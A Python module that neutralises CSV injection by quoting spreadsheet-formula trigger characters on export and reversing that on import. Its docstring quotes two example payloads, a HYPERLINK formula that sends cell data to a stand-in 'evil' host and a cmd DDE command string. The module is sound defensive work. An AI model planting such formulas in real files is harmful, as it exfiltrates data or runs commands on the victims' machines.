"""CSV cells a spreadsheet would run as formulas, neutralised on export and restored on import.

A post that reads ``=HYPERLINK("http://evil/?"&A1;"click")`` or
``+cmd|' /C calc'!A0`` is data to us and a formula to Excel or LibreOffice
when it starts a cell of a CSV file ("CSV injection"). Following OWASP's
advice, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with a leading single quote, which spreadsheets
show as text. A plain number (``-12.5``, ``+3``, ``1e-3``) is no formula and
stays as it is.

So that a CSV export still imports back exactly (``ingest file`` reads
influscope's own exports), the quoting is reversible: a cell that is quotes
followed by a trigger character gets one more quote (``'=x`` is written
``''=x``), and :func:`restore` takes exactly one off such cells. ``--raw-csv``
turns the quoting off. Pure Python (the CLI's output imports it at start-up);
the Arrow version for exports uses the same patterns.
"""

from __future__ import annotations

import re

# A cell a spreadsheet may evaluate: optional quotes, then a trigger character.
TRIGGER = r"^'*[=+\-@\t\r]"
# What neutralise wrote: at least one quote, then a trigger character.
QUOTED = r"^'+[=+\-@\t\r]"
# A plain decimal number, sign included: a spreadsheet reads it as a number.
NUMBER = r"^[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"
_TRIGGER, _QUOTED, _NUMBER = re.compile(TRIGGER), re.compile(QUOTED), re.compile(NUMBER)


def neutralise(text: str) -> str:
    """A text cell safe to open in a spreadsheet.

    >>> neutralise("=1+2"), neutralise("-12.5"), neutralise("@united thanks")
    ("'=1+2", '-12.5', "'@united thanks")
    """
    if _TRIGGER.match(text) and not _NUMBER.match(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The cell as it was before :func:`neutralise`.

    >>> restore("'=1+2"), restore("''=x"), restore("'quoted")
    ('=1+2', "'=x", "'quoted")
    """
    return text[1:] if _QUOTED.match(text) else text
